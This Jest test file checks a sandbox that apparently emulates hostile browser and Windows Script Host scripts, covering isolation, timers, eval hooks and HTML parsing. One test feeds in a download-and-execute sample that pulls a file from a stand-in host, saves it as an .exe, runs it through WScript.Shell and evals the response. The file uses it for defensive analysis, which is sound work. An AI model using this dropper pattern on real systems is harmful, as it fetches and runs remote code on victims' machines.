import { describe, expect, test } from '@jest/globals';
import { hookEval } from '../../../../plugins/threat-emulation/script/eval-hooks.ts';
import { readHtml } from '../../../../plugins/threat-emulation/script/html.ts';
import {
  runScripts,
  type HostKind,
  type ScriptRun,
} from '../../../../plugins/threat-emulation/script/sandbox.ts';

const LIMITS = { timeMs: 2000, memoryBytes: 32 * 2 ** 20, ticks: 100_000 };

function run(host: HostKind, ...scripts: string[]): Promise<ScriptRun> {
  return runScripts({ host, scripts, elements: [] }, LIMITS);
}

/** What a script says by asking for an address. */
const said = ({ events }: ScriptRun): string[] =>
  events
    .filter(({ kind }) => kind === 'network')
    .map(({ what }) => what.replace('https://site.example/', ''));

describe('the sandbox', () => {
  test('has nothing of Node in it', async () => {
    const names = ['process', 'require', 'module', 'Buffer', 'global', 'std', 'os', 'WebAssembly'];
    const outcome = await run('browser', ...names.map((name) => `fetch("${name}:" + typeof ${name})`));
    expect(said(outcome)).toEqual(names.map((name) => `${name}:undefined`));
  });

  test('shares nothing between two runs', async () => {
    await run('browser', 'globalThis.left = 1; Array.prototype.left = 1; Object.prototype.left = 1;');
    expect(said(await run('browser', 'fetch(typeof left + [].left + ({}).left)'))).toEqual([
      'undefinedundefinedundefined',
    ]);
  });

  test('goes on after a script that fails, and runs promises, timers and events in order', async () => {
    const outcome = await run(
      'browser',
      'nothing.here()',
      'window.onload = function () { fetch("load") }; setTimeout(function () { fetch("timer") }, 5e6); Promise.resolve().then(function () { fetch("promise") }); fetch("first")',
    );
    expect(said(outcome)).toEqual(['first', 'promise', 'timer', 'load']);
    expect(outcome.events[0]).toMatchObject({ kind: 'exception', what: expect.stringContaining('nothing') });
  });

  test('lets time pass without waiting', async () => {
    const outcome = await run(
      'windows',
      'var t = Date.now(); WScript.Sleep(36e5); while (Date.now() - t < 72e5); new ActiveXObject("MSXML2.XMLHTTP").open("GET", "x"); var h = new ActiveXObject("MSXML2.XMLHTTP"); h.Open("GET", "later"); h.SEND();',
    );
    expect(outcome.stopped).toBeNull();
    expect(said(outcome)).toEqual(['later']);
  });

  test('follows content of the network into files, processes and eval', async () => {
    const outcome = await run(
      'windows',
      `var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", "http://host.example/x", false); h.send();
      var s = new ActiveXObject("ADODB.Stream"); s.open(); s.type = 1; s.write(h.responseBody); s.saveToFile("C:\\\\a\\\\b.exe");
      new ActiveXObject("WScript.Shell").run("C:\\\\a\\\\b.exe"); eval(h.responseText);`,
    );
    expect(outcome.events).toMatchObject([
      { kind: 'object' },
      { kind: 'network' },
      { kind: 'object' },
      { kind: 'file-write', origin: 'network' },
      { kind: 'object' },
      { kind: 'process', runs: 'network|C:\\a\\b.exe' },
      { kind: 'layer', downloaded: true },
    ]);
  });

  test('keeps direct eval direct and sees every other one', async () => {
    const outcome = await run(
      'browser',
      '(function () { var own = "seen"; fetch(eval("own")); var e = eval; fetch(e("typeof own")); fetch(window["ev" + "al"]("typeof own")); fetch(new Function("return typeof own")()); })()',
    );
    expect(said(outcome)).toEqual(['seen', 'undefined', 'undefined', 'undefined']);
    expect(outcome.events.filter(({ kind }) => kind === 'layer').map(({ what }) => what)).toEqual([
      'own',
      'typeof own',
      'typeof own',
      'return typeof own',
    ]);
  });

  test('is bounded in what it reports', async () => {
    const outcome = await run(
      'browser',
      'for (var i = 0; i < 5000; i++) fetch("x" + i); new Image().src = "https://h.example/" + "y".repeat(1e6);',
    );
    expect(outcome.events.length).toBeLessThanOrEqual(1000);
  });

  test('survives a stack that overflows, once and again', async () => {
    for (let n = 0; n < 3; n += 1)
      expect(
        said(
          await run('browser', 'function f() { return [f()]; } try { f(); } catch (e) { fetch("caught"); }'),
        ),
      ).toEqual(['caught']);
    await run('browser', 'JSON.parse("[".repeat(100000));');
    expect(said(await run('browser', 'fetch("on")'))).toEqual(['on']);
  });
});

describe('hooks on eval', () => {
  test.each([
    ['eval(a)', '$unlayer(eval($layer(a)))'],
    ['eval(f("(", /[)]/, `)`) /* ) */)', '$unlayer(eval($layer(f("(", /[)]/, `)`) /* ) */)))'],
    ['eval(eval(a))', '$unlayer(eval($layer($unlayer(eval($layer(a))))))'],
    ['x.eval(a)', 'x.eval(a)'],
    ['function eval(a) {}', 'function eval(a) {}'],
    ['({ eval(a) { } })', '({ eval(a) { } })'],
    ['var e = eval;', 'var e = $eval;'],
    ['medieval(a)', 'medieval(a)'],
    ['eval("unfinished', 'eval("unfinished'],
    ['eval()', 'eval()'],
  ])('%s', (before, after) => {
    expect(hookEval(before)).toBe(after);
  });
});

describe('markup', () => {
  test('gives scripts, elements and handlers', () => {
    const page = readHtml(
      '<!-- <script>no</script> --><p ID=a onclick="x(&quot;y&quot;)">t</p><script src="/s.js"></script><script>if (a < b) c("</p>")</script><script type="text/template"><b></script><script language="VBScript">MsgBox 1</script>',
    );
    expect(page.scripts).toEqual([
      { code: '', src: '/s.js', language: 'javascript' },
      { code: 'if (a < b) c("</p>")', src: '', language: 'javascript' },
      { code: 'MsgBox 1', src: '', language: 'vbscript' },
    ]);
    expect(page.elements[0]).toMatchObject({
      tag: 'p',
      text: 't',
      attributes: { id: 'a', onclick: 'x("y")' },
    });
  });

  test('is read in linear time, whatever it is made of', () => {
    for (const piece of ['<', '<a ', '<a b="', '<!--', '<script>', '&#', 'a=', '<a b=c ']) {
      expect(() => readHtml(piece.repeat(20_000))).not.toThrow();
    }
  });
});
